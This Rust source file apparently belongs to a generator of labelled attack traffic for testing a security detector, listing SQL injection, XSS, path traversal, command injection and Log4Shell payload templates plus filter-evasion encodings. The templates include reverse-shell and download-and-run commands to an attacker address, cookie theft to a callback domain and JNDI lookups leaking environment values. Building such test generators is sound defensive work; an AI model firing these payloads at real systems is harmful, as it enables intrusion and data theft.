//! Attack payload templates (written for this generator; the test corpus is
//! kept independent) and the encodings attackers wrap them in.
//!
//! Placeholders: `{n}` a number, `{s}` a small delay, `{d}` a callback
//! domain, `{ip}` the attacker's address, `{p}` a port, `{t}` a table name,
//! `{h}` six hex digits.

use crate::rng::Rng;
use crate::text::{
    push_form_encoded, push_minimal_encoded, push_percent_all, push_percent_u, push_u64,
};
use secmo_event::Category;

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Sig {
    Sqli,
    Xss,
    Traversal,
    Cmd,
    Log4shell,
}

impl Sig {
    /// The label of a line that carries this kind of payload.
    pub fn category(self) -> Category {
        match self {
            Sig::Sqli => Category::Sqli,
            Sig::Xss => Category::Xss,
            Sig::Traversal => Category::PathTraversal,
            Sig::Cmd => Category::CommandInjection,
            Sig::Log4shell => Category::Log4shell,
        }
    }
}

pub const SQLI: &[&str] = &[
    "{n}' OR '1'='1",
    "{n} OR 1=1-- -",
    "' or 1=1#",
    "admin'-- ",
    "{n}' UNION SELECT NULL,username,password FROM users-- -",
    "{n} UNION ALL SELECT {n},table_name,NULL FROM information_schema.tables#",
    "{n}' AND SLEEP({s})-- x",
    "{n}; WAITFOR DELAY '0:0:{s}'--",
    "{n}' AND (SELECT {n} FROM (SELECT(SLEEP({s})))qX)-- -",
    "{n} AND extractvalue({n},concat(0x7e,(SELECT version())))",
    "{n}' AND updatexml(1,concat(0x7e,user()),1)-- -",
    "{n}) OR ({n}={n}",
    "-{n}' UNION SELECT @@version,2,3-- -",
    "{n}; DROP TABLE {t};--",
    "{n}' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects))--",
    "' OR 'x'='x",
    "{n} AND ascii(substring((SELECT password FROM {t} LIMIT 1),1,1))>64",
    "{n}' ORDER BY {s}-- -",
    "{n}';SELECT pg_sleep({s})--",
    "{n}' AND '{n}'=(SELECT COUNT(*) FROM {t}) AND ''='",
    "{n} AND 1=(SELECT 1 FROM dual WHERE BENCHMARK(5000000,MD5(1)))",
    "x' HAVING 1=1--",
];

pub const XSS: &[&str] = &[
    "<script>alert({n})</script>",
    "\"><script>alert(document.cookie)</script>",
    "<img src=x onerror=alert({n})>",
    "<svg/onload=confirm({n})>",
    "<body onload=alert('xss')>",
    "javascript:alert(document.domain)",
    "'\"><iframe src=javascript:alert({n})>",
    "<a href=\"javascript:fetch('//{d}/c?'+document.cookie)\">x</a>",
    "<details open ontoggle=alert({n})>",
    "<script src=//{d}/x.js></script>",
    "\" onmouseover=\"alert({n})",
    "<input autofocus onfocus=alert({n})>",
    "<svg><animate onbegin=alert({n}) attributeName=x dur=1s>",
    "<img src=\"x\" onerror=\"eval(atob('YWxlcnQoMSk='))\">",
    "</title><script>prompt({n})</script>",
    "<video><source onerror=\"alert({n})\">",
    "<marquee onstart=alert({n})>",
];

pub const TRAVERSAL: &[&str] = &[
    "../../../../etc/passwd",
    "../../../../../../etc/shadow",
    "..\\..\\..\\..\\windows\\win.ini",
    "....//....//....//etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e/%2e%2e/%2e%2e/etc/hosts",
    "..%c0%af..%c0%af..%c0%afetc/passwd",
    "/var/www/html/../../../etc/passwd",
    "../../../../proc/self/environ",
    "..;/..;/..;/WEB-INF/web.xml",
    "../../../../../boot.ini",
    "..%5c..%5c..%5cwindows%5csystem32%5cdrivers%5cetc%5chosts",
    "../../../../var/log/nginx/access.log",
    "php://filter/convert.base64-encode/resource=../../../config.php",
    "..././..././..././etc/group",
    "../../../../../../../../../../etc/issue",
];

pub const CMD: &[&str] = &[
    ";id",
    "| cat /etc/passwd",
    "$(whoami)",
    "`uname -a`",
    "127.0.0.1; cat /etc/passwd",
    "127.0.0.1 && curl http://{d}/x.sh | sh",
    "; wget http://{d}/bins/x86 -O /tmp/.{h}; chmod +x /tmp/.{h}; /tmp/.{h}",
    "|| ping -c {s} {d}",
    ";${IFS}cat${IFS}/etc/passwd",
    "\nid",
    "$(nc -e /bin/sh {ip} {p})",
    ";bash -i >& /dev/tcp/{ip}/{p} 0>&1",
    "&& echo {h} > /tmp/{h}.txt",
    "| nslookup {h}.{d}",
    "1;/bin/busybox wget http://{ip}:{p}/m -O- | sh",
    "() { :; }; /bin/bash -c 'cat /etc/passwd'",
];

pub const LOG4SHELL: &[&str] = &[
    "${jndi:ldap://{d}:1389/a}",
    "${jndi:rmi://{d}/Exploit{n}}",
    "${jndi:dns://{d}/{n}}",
    "${${lower:j}ndi:${lower:l}dap://{d}/x}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://{d}/a}",
    "${jndi:${lower:l}${lower:d}a${lower:p}://{d}/o}",
    "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//{d}/b}",
    "${jndi:ldap://${env:USER}.{d}/c}",
    "${jndi:ldaps://{d}/${sys:java.version}}",
    "${j${k8s:k5:-ND}i:ldap://{d}/z}",
    "${${upper:j}ndi:ldap://{ip}:{p}/{h}}",
    "${jndi:ldap://{ip}:{p}/Basic/Command/Base64/{h}}",
];

const TABLES: &[&str] = &[
    "users",
    "admin",
    "accounts",
    "customers",
    "wp_users",
    "members",
];
const DOMAIN_WORDS: &[&str] = &["oast", "callbk", "x1", "pwn", "ldap-srv", "dnslog", "cb"];
const TLDS: &[&str] = &["fun", "live", "site", "xyz", "top", "net"];

pub fn templates(sig: Sig) -> &'static [&'static str] {
    match sig {
        Sig::Sqli => SQLI,
        Sig::Xss => XSS,
        Sig::Traversal => TRAVERSAL,
        Sig::Cmd => CMD,
        Sig::Log4shell => LOG4SHELL,
    }
}

fn push_hex(out: &mut String, rng: &mut Rng, n: usize) {
    const H: &[u8; 16] = b"0123456789abcdef";
    for _ in 0..n {
        out.push(char::from(H[rng.below(16) as usize]));
    }
}

/// Replace `out` with one of this kind's templates, filled in.
pub fn random(sig: Sig, rng: &mut Rng, attacker: &str, out: &mut String) {
    out.clear();
    let template = rng.pick(templates(sig));
    fill(template, rng, attacker, out);
}

/// Fill a template's placeholders into `out`.
pub fn fill(template: &str, rng: &mut Rng, attacker: &str, out: &mut String) {
    let mut rest = template;
    while let Some(open) = rest.find('{') {
        out.push_str(&rest[..open]);
        let after = &rest[open..];
        let key_end = after.find('}').map(|e| e + 1).unwrap_or(after.len());
        let key = &after[..key_end];
        match key {
            "{n}" => push_u64(out, rng.range(1, 9999)),
            "{s}" => push_u64(out, rng.range(2, 10)),
            "{p}" => push_u64(out, rng.pick(&[4444u64, 1337, 8080, 9001, 443, 53])),
            "{t}" => out.push_str(rng.pick(TABLES)),
            "{h}" => push_hex(out, rng, 6),
            "{ip}" => out.push_str(attacker),
            "{d}" => {
                push_hex(out, rng, 8);
                out.push('.');
                out.push_str(rng.pick(DOMAIN_WORDS));
                out.push('.');
                out.push_str(rng.pick(TLDS));
            }
            // Not a placeholder (`${IFS}`, `${jndi:`): keep the brace.
            _ => {
                out.push('{');
                rest = &after[1..];
                continue;
            }
        }
        rest = &after[key_end..];
    }
    out.push_str(rest);
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Enc {
    /// What curl sends: only what cannot appear in a request line is encoded.
    Plain,
    Percent,
    Double,
    /// Form encoding, `+` for spaces.
    Plus,
    MixedCase,
    /// HTML character references for the markup, then percent-encoded.
    Entities,
    /// SQL comments in place of spaces.
    SqlComment,
    /// IIS `%u00HH`.
    PercentU,
}

pub fn encodings(sig: Sig) -> &'static [Enc] {
    use Enc::*;
    match sig {
        Sig::Sqli => &[
            Plain, Percent, Double, Plus, MixedCase, SqlComment, PercentU,
        ],
        Sig::Xss => &[Plain, Percent, Double, Plus, MixedCase, Entities, PercentU],
        Sig::Traversal => &[Plain, Plain, Percent, Double, PercentU],
        Sig::Cmd => &[Plain, Percent, Double, Plus, PercentU],
        Sig::Log4shell => &[Plain, Plain, Percent, Double, Plus],
    }
}

/// Encode `raw` for a request target. `scratch` is reused working space.
pub fn encode(
    enc: Enc,
    raw: &str,
    keep_slash: bool,
    rng: &mut Rng,
    scratch: &mut String,
    out: &mut String,
) {
    scratch.clear();
    match enc {
        Enc::Plain => push_minimal_encoded(out, raw),
        Enc::Percent => push_percent_all(out, raw, keep_slash),
        Enc::Double => {
            push_percent_all(scratch, raw, keep_slash);
            for ch in scratch.chars() {
                if ch == '%' {
                    out.push_str("%25");
                } else {
                    out.push(ch);
                }
            }
        }
        Enc::Plus => push_form_encoded(out, raw, false),
        Enc::MixedCase => {
            for ch in raw.chars() {
                if ch.is_ascii_alphabetic() && rng.chance(0.5) {
                    scratch.push(if ch.is_ascii_lowercase() {
                        ch.to_ascii_uppercase()
                    } else {
                        ch.to_ascii_lowercase()
                    });
                } else {
                    scratch.push(ch);
                }
            }
            push_minimal_encoded(out, scratch);
        }
        Enc::Entities => {
            for ch in raw.chars() {
                if ch.is_ascii() && !ch.is_ascii_alphanumeric() && ch != ' '
                    || ch.is_ascii_alphabetic() && rng.chance(0.3)
                {
                    scratch.push_str(if rng.chance(0.5) { "&#" } else { "&#x" });
                    if scratch.ends_with('x') {
                        let _ =
                            std::fmt::Write::write_fmt(scratch, format_args!("{:x};", ch as u32));
                    } else {
                        push_u64(scratch, u64::from(ch as u32));
                        scratch.push(';');
                    }
                } else {
                    scratch.push(ch);
                }
            }
            push_percent_all(out, scratch, false);
        }
        Enc::SqlComment => {
            for ch in raw.chars() {
                if ch == ' ' {
                    scratch.push_str("/**/");
                } else {
                    scratch.push(ch);
                }
            }
            push_minimal_encoded(out, scratch);
        }
        Enc::PercentU => push_percent_u(out, raw),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn fill_replaces_only_placeholders() {
        let mut rng = Rng::new(1);
        let mut s = String::new();
        fill(
            ";${IFS}cat${IFS}/etc/passwd {ip}:{p}",
            &mut rng,
            "5.6.7.8",
            &mut s,
        );
        assert!(s.starts_with(";${IFS}cat${IFS}/etc/passwd 5.6.7.8:"), "{s}");
        s.clear();
        fill("${jndi:ldap://{d}/a}", &mut rng, "x", &mut s);
        assert!(
            s.starts_with("${jndi:ldap://") && s.ends_with("/a}") && !s.contains("{d}"),
            "{s}"
        );
        for sig in [
            Sig::Sqli,
            Sig::Xss,
            Sig::Traversal,
            Sig::Cmd,
            Sig::Log4shell,
        ] {
            for t in templates(sig) {
                s.clear();
                fill(t, &mut rng, "1.2.3.4", &mut s);
                for key in ["{n}", "{s}", "{d}", "{ip}", "{p}", "{t}", "{h}"] {
                    assert!(!s.contains(key), "{t} -> {s}");
                }
            }
        }
    }

    #[test]
    fn encodings_keep_the_request_line_valid() {
        let mut rng = Rng::new(2);
        let mut scratch = String::new();
        let raw = "1' UNION SELECT a,b FROM users-- -#\n<x>";
        for enc in [
            Enc::Plain,
            Enc::Percent,
            Enc::Double,
            Enc::Plus,
            Enc::MixedCase,
            Enc::Entities,
            Enc::SqlComment,
            Enc::PercentU,
        ] {
            let mut out = String::new();
            encode(enc, raw, false, &mut rng, &mut scratch, &mut out);
            assert!(
                !out.contains(' ') && !out.contains('#') && !out.contains('\n'),
                "{enc:?}: {out}"
            );
        }
        let mut out = String::new();
        encode(Enc::Double, "../", false, &mut rng, &mut scratch, &mut out);
        assert_eq!(out, "..%252F");
        out.clear();
        encode(
            Enc::SqlComment,
            "1 OR 2",
            false,
            &mut rng,
            &mut scratch,
            &mut out,
        );
        assert_eq!(out, "1/**/OR/**/2");
        out.clear();
        encode(
            Enc::PercentU,
            "<a>",
            false,
            &mut rng,
            &mut scratch,
            &mut out,
        );
        assert_eq!(out, "%u003Ca%u003E");
    }
}
